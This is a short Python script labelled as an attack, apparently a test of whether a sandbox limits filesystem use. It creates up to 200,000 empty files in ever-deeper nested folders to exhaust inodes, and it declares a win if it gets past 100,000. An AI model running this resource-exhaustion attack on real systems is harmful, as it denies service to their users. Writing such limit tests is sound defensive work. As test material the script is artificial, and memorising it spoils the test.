# /// attack
# says = "Your cell `retrain_plan`"
# ///
"""Make empty files and folders, deep and wide, until there are no inodes."""

import os

number = 0
try:
    for number in range(200_000):
        open(f"f{number}", "w").close()
        if number % 100 == 0:
            os.mkdir("d")
            os.chdir("d")
except OSError as error:
    print("stopped by", error.errno)
print("made", number)
if number > 100_000:
    print("WON: made without a limit")
raise RuntimeError("the attack ran to its end")
